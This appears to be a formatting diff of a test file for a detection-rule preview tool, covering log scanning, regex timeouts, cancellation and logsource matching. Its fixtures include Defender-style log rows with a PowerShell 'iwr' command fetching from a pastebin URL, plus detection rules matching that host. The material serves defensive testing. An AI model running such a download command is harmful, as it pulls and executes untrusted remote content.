@@ -3,7 +3,10 @@ import { describe, it } from 'node:test';
 import { previewInWorker, previewRule, toCliJson } from './index';
 import { ruleText } from './testing';
 
-const rule = (detection: string, logsource?: string): { ruleText: string; rulePath: string } => ({ ruleText: ruleText(detection, logsource), rulePath: 'r.yml' });
+const rule = (detection: string, logsource?: string): { ruleText: string; rulePath: string } => ({
+  ruleText: ruleText(detection, logsource),
+  rulePath: 'r.yml',
+});
 const DEAD_DROP = `    selection:
         Initiated: 'true'
         DestinationHostname|endswith:
@@ -46,8 +49,14 @@ describe('scan', () => {
     const samples = [{ source: 't.ndjson', text: trickyText() }];
     const fast = await previewRule(rule(DEAD_DROP, NETWORK), samples);
     const strict = await previewRule(rule(DEAD_DROP, NETWORK), samples, { strict: true });
-    assert.deepEqual(fast.matches.map((m) => m.index), strict.matches.map((m) => m.index));
-    assert.deepEqual(fast.matches.map((m) => m.index), [0, 2, 4, 7, 9, 10, 11, 13, 14]);
+    assert.deepEqual(
+      fast.matches.map((m) => m.index),
+      strict.matches.map((m) => m.index),
+    );
+    assert.deepEqual(
+      fast.matches.map((m) => m.index),
+      [0, 2, 4, 7, 9, 10, 11, 13, 14],
+    );
     assert.equal(fast.scanned, strict.scanned);
     // The truncated last line is not a flat object to the pre-filter: it is parsed and reported.
     assert.equal(strict.skipped.length, 1);
@@ -74,7 +83,10 @@ describe('scan', () => {
   });
 
   it('reports unreadable sources without failing the scan', async () => {
-    const r = await previewRule(rule("    selection:\n        A: 'x'\n    condition: selection"), [{ source: '/nonexistent/x.ndjson', path: '/nonexistent/x.ndjson' }, { source: 'ok', text: '{"A":"x"}' }]);
+    const r = await previewRule(rule("    selection:\n        A: 'x'\n    condition: selection"), [
+      { source: '/nonexistent/x.ndjson', path: '/nonexistent/x.ndjson' },
+      { source: 'ok', text: '{"A":"x"}' },
+    ]);
     assert.equal(r.matched, 1);
     assert.equal(r.skipped[0].index, -1);
     assert.match(r.skipped[0].reason, /ENOENT/);
@@ -97,7 +109,10 @@ describe('worker', () => {
     assert.equal(r.slowRegexes.length, 1);
     assert.equal(r.slowRegexes[0].pattern, '^(a+)+$');
     assert.equal(r.slowRegexes[0].index, 1);
-    assert.deepEqual(r.matches.map((m) => m.index), [0, 2]);
+    assert.deepEqual(
+      r.matches.map((m) => m.index),
+      [0, 2],
+    );
     assert.equal(r.scanned, 3);
     assert.ok(r.skipped.some((s) => s.index === 1 && /abandoned after 300 ms/.test(s.reason)));
   });
@@ -107,8 +122,15 @@ describe('worker', () => {
     const events = [{ F: evil }, { F: 'aaaa' }, { F: evil }, { F: 'aa' }];
     const text = events.map((e) => JSON.stringify(e)).join('\n');
     const r = await previewInWorker(rule("    sel:\n        F|re: '^(a+)+$'\n    condition: sel"), [{ source: 's.ndjson', text }], { eventBudgetMs: 300 });
-    assert.deepEqual(r.matches.map((m) => m.index), [1, 3], 'later events still evaluated with the regex');
-    assert.deepEqual(r.skipped.map((s) => s.index), [0, 2]);
+    assert.deepEqual(
+      r.matches.map((m) => m.index),
+      [1, 3],
+      'later events still evaluated with the regex',
+    );
+    assert.deepEqual(
+      r.skipped.map((s) => s.index),
+      [0, 2],
+    );
     const json = toCliJson(r);
     assert.equal(json.warnings?.length, 1, JSON.stringify(json.warnings));
     assert.match(json.warnings![0], /ran past the 300 ms budget on 2 events.*stayed on/);
@@ -118,28 +140,54 @@ describe('worker', () => {
     const text = Array.from({ length: 200000 }, (_, i) => `{"A":"${i}"}`).join('\n');
     const controller = new AbortController();
     setTimeout(() => controller.abort(), 50);
-    const r = await previewInWorker(rule("    selection:\n        A|re: '^1.*9$'\n    condition: selection"), [{ source: 's', text }], { signal: controller.signal });
+    const r = await previewInWorker(rule("    selection:\n        A|re: '^1.*9$'\n    condition: selection"), [{ source: 's', text }], {
+      signal: controller.signal,
+    });
     assert.equal(r.cancelled, true);
   });
 
   it('returns at once, cancelled, when the signal was aborted before the scan started', async () => {
     const controller = new AbortController();
     controller.abort();
-    const r = await previewInWorker(rule("    selection:\n        A: x\n    condition: selection"), [{ source: 's', text: '{"A":"x"}' }], { signal: controller.signal });
+    const r = await previewInWorker(rule('    selection:\n        A: x\n    condition: selection'), [{ source: 's', text: '{"A":"x"}' }], {
+      signal: controller.signal,
+    });
     assert.equal(r.cancelled, true);
     assert.equal(r.matched, 0);
   });
 
   it('does not match a process-creation rule on Defender network rows, nor a network rule on process rows', async () => {
     const rows = [
-      { Timestamp: '2025-03-10T10:00:00Z', InitiatingProcessFileName: 'powershell.exe', InitiatingProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x', RemoteUrl: 'pastebin.com', RemoteIP: '1.2.3.4' },
-      { Timestamp: '2025-03-10T10:00:01Z', FileName: 'powershell.exe', ProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x', InitiatingProcessFileName: 'explorer.exe' },
+      {
+        Timestamp: '2025-03-10T10:00:00Z',
+        InitiatingProcessFileName: 'powershell.exe',
+        InitiatingProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x',
+        RemoteUrl: 'pastebin.com',
+        RemoteIP: '1.2.3.4',
+      },
+      {
+        Timestamp: '2025-03-10T10:00:01Z',
+        FileName: 'powershell.exe',
+        ProcessCommandLine: 'powershell iwr https://pastebin.com/raw/x',
+        InitiatingProcessFileName: 'explorer.exe',
+      },
     ];
     const text = rows.map((r) => JSON.stringify(r)).join('\n');
-    const proc = await previewRule(rule("    selection:\n        CommandLine|contains: 'pastebin.com'\n    condition: selection", '    product: windows\n    category: process_creation'), [{ source: 'd.ndjson', text }]);
-    assert.deepEqual(proc.matches.map((m) => m.index), [1]);
-    const net = await previewRule(rule("    selection:\n        DestinationHostname|endswith: 'pastebin.com'\n    condition: selection", NETWORK), [{ source: 'd.ndjson', text }]);
-    assert.deepEqual(net.matches.map((m) => m.index), [0]);
+    const proc = await previewRule(
+      rule("    selection:\n        CommandLine|contains: 'pastebin.com'\n    condition: selection", '    product: windows\n    category: process_creation'),
+      [{ source: 'd.ndjson', text }],
+    );
+    assert.deepEqual(
+      proc.matches.map((m) => m.index),
+      [1],
+    );
+    const net = await previewRule(rule("    selection:\n        DestinationHostname|endswith: 'pastebin.com'\n    condition: selection", NETWORK), [
+      { source: 'd.ndjson', text },
+    ]);
+    assert.deepEqual(
+      net.matches.map((m) => m.index),
+      [0],
+    );
     assert.equal(proc.scanned, 2);
   });
 });
